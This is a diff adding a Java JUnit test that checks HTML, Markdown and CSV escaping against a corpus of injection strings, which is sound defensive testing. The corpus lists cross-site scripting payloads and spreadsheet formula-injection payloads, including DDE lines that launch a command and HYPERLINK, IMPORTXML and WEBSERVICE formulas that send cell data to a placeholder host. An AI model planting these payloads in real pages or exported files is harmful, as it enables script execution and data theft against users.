@@ -1,0 +1,91 @@
+package dev.errata.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.io.StringReader;
+import java.io.StringWriter;
+import java.util.List;
+import java.util.regex.Pattern;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Values from the data go into HTML, Markdown and CSV through one escape each; a corpus of injection
+ * strings shows that none of them can become markup, a link or a spreadsheet formula.
+ */
+class InjectionCorpusTest {
+
+    static final List<String> MARKUP = List.of(
+            "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<<script>script>alert(1)<</script>/script>",
+            "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">",
+            "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
+            "<body onload=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
+            "<a href=\"javascript:alert(1)\">x</a>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+            "<style>@import 'http://example.invalid/x.css';</style>", "<link rel=stylesheet href=//example.invalid>",
+            "<meta http-equiv=refresh content=0;url=//example.invalid>", "<object data=javascript:alert(1)>",
+            "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "&#60;script&#62;", "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>",
+            "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
+            "[click](javascript:alert(1))", "![x](http://example.invalid/track.png)", "<http://example.invalid>",
+            "`<script>`", "| a | b |", "# heading", "***bold***", "\\<script>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
+            "x\n<script>alert(1)</script>", "\u0000<script>");
+
+    static final List<String> FORMULAS = List.of(
+            "=1+2", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")", "+1+2", "+SUM(A1:A9)",
+            "-2+3", "-SUM(A1)", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
+            "=WEBSERVICE(\"http://example.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@cmd", "-", "+", "=");
+
+    private static final Pattern ENTITY = Pattern.compile("&(amp|lt|gt|quot|#39);");
+
+    @Test
+    void escapedHtmlHoldsNoMarkupCharacterAndReadsBackAsTheValue() {
+        for (String value : MARKUP) {
+            String escaped = Markup.escape(value);
+            assertThat(escaped).as(value).doesNotContain("<", ">", "\"", "'");
+            assertThat(unescape(escaped)).as(value).isEqualTo(value);
+        }
+    }
+
+    @Test
+    void escapedMarkdownHoldsNoHtmlAndNoLinkOrFormatting() {
+        for (String value : MARKUP) {
+            String escaped = ENTITY.matcher(MarkdownReport.escape(value)).replaceAll("");
+            assertThat(escaped).as(value).doesNotContain("<", ">");
+            for (int i = 0; i < escaped.length(); i++) {
+                if ("`*_[]|#!".indexOf(escaped.charAt(i)) >= 0) {
+                    assertThat(escaped.charAt(i - 1)).as(value + " at " + i).isEqualTo('\\');
+                }
+            }
+        }
+    }
+
+    @Test
+    void exportedCellsNeverStartAFormulaAndKeepTheirTextAfterTheQuote() throws IOException {
+        for (String value : FORMULAS) {
+            StringWriter out = new StringWriter();
+            try (ExportCsv csv = new ExportCsv(out, List.of("cell"))) {
+                List<String> cells = ExportCsv.cells();
+                cells.add(ExportCsv.text(value));
+                csv.row(cells);
+            }
+            List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+                    .parse(new StringReader(out.toString())).getRecords();
+            String cell = records.get(0).get("cell");
+            assertThat(cell).as(value).startsWith("'").isEqualTo("'" + value);
+        }
+        assertThat(ExportCsv.text("-0.5")).as("a negative number stays a number").isEqualTo("-0.5");
+        assertThat(ExportCsv.text("+1e3")).isEqualTo("+1e3");
+    }
+
+    private static String unescape(String escaped) {
+        return ENTITY.matcher(escaped).replaceAll(m -> switch (m.group(1)) {
+            case "amp" -> "&";
+            case "lt" -> "<";
+            case "gt" -> ">";
+            case "quot" -> "\"";
+            default -> "'";
+        });
+    }
+}
